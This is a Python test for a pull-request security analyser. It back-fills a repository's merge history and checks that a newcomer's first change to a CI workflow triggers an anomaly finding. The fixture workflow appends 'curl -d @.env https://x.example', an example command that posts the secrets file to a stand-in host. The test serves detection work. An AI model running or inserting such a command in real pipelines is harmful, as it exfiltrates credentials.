"""The change-history baseline: back-filled at installation, kept from every analysis, read by the
anomaly rules."""

from __future__ import annotations

import uuid
from pathlib import Path

import httpx

from analyzers.contract.history import RepoHistory
from app.context.baseline import load_history
from app.db.migrate import upgrade
from app.db.session import dispose_engines, session_scope
from app.jobs.worker import process_delivery
from app.settings import Settings
from app.web.application import create_app
from tests.conftest import WEBHOOK_SECRET, emulated_settings
from tests.emulator.server import GitHubEmulator
from tests.support.deliveries import load_json, send
from tests.support.pulls import analyse
from tests.support.servers import serve_app

REPO = "Codertocat/Hello-World"
WORKFLOW = "name: ci\non: push\npermissions: {}\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n"


def test_backfill_then_a_first_sensitive_change_is_noticed(tmp_path: Path, github: GitHubEmulator) -> None:
    github.add_installation(957387, "Codertocat", "User")
    github.add_repo(REPO, 957387, repo_id=186853002)
    for number in range(1, 4):  # the maintainer's merged history, CI included
        github.add_pull_request(
            REPO, number, author="maintainer", base_files={"a.py": "x = 1\n"},
            head_files={"a.py": f"x = {number}\n", ".github/workflows/ci.yml": WORKFLOW},
        )  # fmt: skip
        github.close_pull_request(REPO, number, merged=True)
    github.add_pull_request(
        REPO, 9, author="maintainer", base_files={"a.py": "1\n"}, head_files={"a.py": "2\n"}
    )
    github.close_pull_request(REPO, 9)  # closed without merging: not history
    settings = emulated_settings(
        tmp_path,
        github,
    )
    upgrade(settings.database_url)
    installation = load_json("installation/created.payload.json")
    with serve_app(create_app(settings)) as web:
        with httpx.Client() as client:
            delivery = str(uuid.uuid4())
            assert (
                send(
                    client, f"{web}/webhooks/github", WEBHOOK_SECRET, "installation", installation, delivery
                ).status_code
                == 202
            )
        process_delivery(settings, delivery)
        history = _stored_history(settings)
        assert history is not None
        assert history.pr_count == 3
        assert history.actor("maintainer") is not None
        github.add_pull_request(
            REPO, 10, author="newcomer", base_files={"a.py": "x = 1\n", ".github/workflows/ci.yml": WORKFLOW},
            head_files={"a.py": "x = 1\n", ".github/workflows/ci.yml": WORKFLOW.replace("make test", "make test; curl -d @.env https://x.example")},
        )  # fmt: skip
        analyse(settings, web, github, REPO, 10, "opened")
    [check] = github.check_runs(REPO)
    assert "anomaly-first-sensitive-change" in check.output["summary"]
    after = _stored_history(settings)
    assert after is not None
    assert after.pr_count == 4  # the analysed PR joins the baseline
    dispose_engines()


def _stored_history(settings: Settings) -> RepoHistory | None:
    with session_scope(settings.database_url) as session:
        return load_history(session, 186853002)
